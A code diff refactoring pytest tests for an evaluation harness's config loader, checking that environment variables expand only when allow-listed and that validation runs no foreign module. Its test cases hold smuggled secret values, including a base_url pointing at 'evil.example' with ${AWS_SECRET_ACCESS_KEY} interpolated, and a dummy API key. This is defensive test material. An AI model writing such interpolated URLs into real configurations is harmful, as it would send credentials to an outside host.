@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import builders
 import pytest
 from command_line import harness
 from loopback import completion, serve
@@ -14,14 +15,9 @@ from harness.errors import ConfigError, hide_keys
 KEY = "sk-proj-aBcDeFgH1234567890"
 
 
-def write_config(folder: Path, model: str, more: str = "") -> Path:
-    (folder / "rows.jsonl").write_text('{"id": "a", "text": "The council met. It voted."}\n', "utf-8")
-    prompts = "" if "prompts:" in model + more else "prompts: {plain: '{{ article.text }}'}\n"
-    path = folder / "run.yaml"
-    path.write_text(
-        f"articles: rows.jsonl\nmodels:\n  m: {model}\n{prompts}verifier: lexical\nscorers: [length]\n{more}", "utf-8"
-    )
-    return path
+def write_config(folder: Path, model: str, prompt: str = "{{ article.text }}", **settings: str) -> Path:
+    row = {"id": "a", "text": "The council met. It voted."}
+    return builders.write_config(folder, row, models=f"{{m: {model}}}", prompts=f"{{p: '{prompt}'}}", **settings)
 
 
 def describe_model(**options: str) -> str:
@@ -30,23 +26,25 @@ def describe_model(**options: str) -> str:
 
 
 @pytest.mark.parametrize(
-    ("model", "name"),
+    ("settings", "name"),
     [
-        (describe_model(base_url="'http://evil.example/${AWS_SECRET_ACCESS_KEY}/v1'"), "AWS_SECRET_ACCESS_KEY"),
-        (describe_model(extra="{metadata: {x: ['${DATABASE_URL:-none}']}}"), "DATABASE_URL"),
-        ("{kind: 'somebody:AsksServer', model: '${GITHUB_TOKEN}'}", "GITHUB_TOKEN"),
-        (describe_model() + "\nprompts: {plain: '{{ article.text }} ${MONGODB_URI}'}", "MONGODB_URI"),
+        ((describe_model(base_url="'http://evil.example/${AWS_SECRET_ACCESS_KEY}/v1'"),), "AWS_SECRET_ACCESS_KEY"),
+        ((describe_model(extra="{metadata: {x: ['${DATABASE_URL:-none}']}}"),), "DATABASE_URL"),
+        (("{kind: 'somebody:AsksServer', model: '${GITHUB_TOKEN}'}",), "GITHUB_TOKEN"),
+        ((describe_model(), "{{ article.text }} ${MONGODB_URI}"), "MONGODB_URI"),
     ],
 )
-def test_only_listed_variables_are_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, model: str, name: str) -> None:
+def test_only_listed_variables_are_used(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settings: tuple[str, ...], name: str
+) -> None:
     monkeypatch.setenv(name, "the-value")
     monkeypatch.delenv("HARNESS_ALLOW_ENV", raising=False)
     with pytest.raises(ConfigError) as caught:
-        config.load(write_config(tmp_path, model), imports=False)
+        config.load(write_config(tmp_path, *settings), imports=False)
     assert f"HARNESS_ALLOW_ENV={name}" in str(caught.value)
     assert "the-value" not in str(caught.value)
     monkeypatch.setenv("HARNESS_ALLOW_ENV", f"OTHER, {name}")
-    config.load(write_config(tmp_path, model), imports=False)
+    config.load(write_config(tmp_path, *settings), imports=False)
 
 
 def test_harness_variables_and_keys_ending_in_env_are_filled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -64,10 +62,9 @@ def test_run_is_scored_without_the_variables_of_its_prompts(tmp_path: Path, monk
     monkeypatch.setenv("HARNESS_HOME", str(tmp_path / "home"))
     monkeypatch.setenv("GITHUB_TOKEN", "x")
     monkeypatch.setenv("HARNESS_ALLOW_ENV", "GITHUB_TOKEN")
-    more = f"output: {tmp_path}/run\nprompts: {{p: '{{{{ article.text }}}} ${{GITHUB_TOKEN}}'}}\n"
-    pipeline.run(config.load(write_config(tmp_path, "{kind: lead}", more)))
+    pipeline.run(config.load(write_config(tmp_path, "lead", "{{ article.text }} ${GITHUB_TOKEN}")))
     monkeypatch.delenv("HARNESS_ALLOW_ENV")
-    assert pipeline.score(tmp_path / "run").results.manifest.status == "complete"
+    assert pipeline.score(tmp_path / "out").results.manifest.status == "complete"
 
 
 @pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "SSH_PRIVATE_KEY", "GITHUB_TOKEN", "HOME", "DATABASE_URL"])
@@ -147,9 +144,8 @@ def test_name_that_begins_like_a_key_is_shown_and_accepted(tmp_path: Path, name:
 def test_validate_imports_no_foreign_module(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     (tmp_path / "evil_on_import.py").write_text("import pathlib\npathlib.Path(__file__).with_name('ran').touch()\n")
     monkeypatch.syspath_prepend(str(tmp_path))
-    path = write_config(tmp_path, "{kind: 'evil_on_import:Model', any: 1}")
-    path.write_text(path.read_text().replace("[length]", "[length, 'evil_on_import:Scorer']"), "utf-8")
-    result = harness("validate", path)
+    scorers = "[length, 'evil_on_import:Scorer']"
+    result = harness("validate", write_config(tmp_path, "{kind: 'evil_on_import:Model', any: 1}", scorers=scorers))
     assert result.exit_code == 0
     assert "evil_on_import:Model" in result.stderr
     assert not (tmp_path / "ran").exists()
@@ -158,11 +154,10 @@ def test_validate_imports_no_foreign_module(tmp_path: Path, monkeypatch: pytest.
 def test_output_outside_the_working_folder_is_a_warning(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     (tmp_path / "here").mkdir()
     monkeypatch.chdir(tmp_path / "here")
-    path = write_config(tmp_path, "{kind: lead}", "output: elsewhere\n")
+    path = write_config(tmp_path, "lead", output="elsewhere")
     assert "warning: output:" in harness("validate", path).stderr
     assert "warning: output:" not in harness("validate", path, "-o", tmp_path / "asked-for").stderr
-    path.write_text(path.read_text().replace("elsewhere", "here/results"), "utf-8")
-    assert "warning: output:" not in harness("validate", path).stderr
+    assert "warning: output:" not in harness("validate", write_config(tmp_path, "lead", output="here/results")).stderr
 
 
 def test_run_announces_the_host_and_the_keys_variable_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -170,5 +165,5 @@ def test_run_announces_the_host_and_the_keys_variable_once(tmp_path: Path, monke
     with serve(lambda *_: completion("Peace.", model="m")) as server:
         url = server.url.replace("127.0.0.1", "localhost.localdomain")
         model = describe_model(base_url=f"'{url}'", retries="0", api_key_env="MY_KEY")
-        result = harness("run", write_config(tmp_path, model, "output: out\n"), "-q")
+        result = harness("run", write_config(tmp_path, model), "-q")
     assert result.output.count(f"harness: asking localhost.localdomain ({url}), with the key in MY_KEY\n") == 1
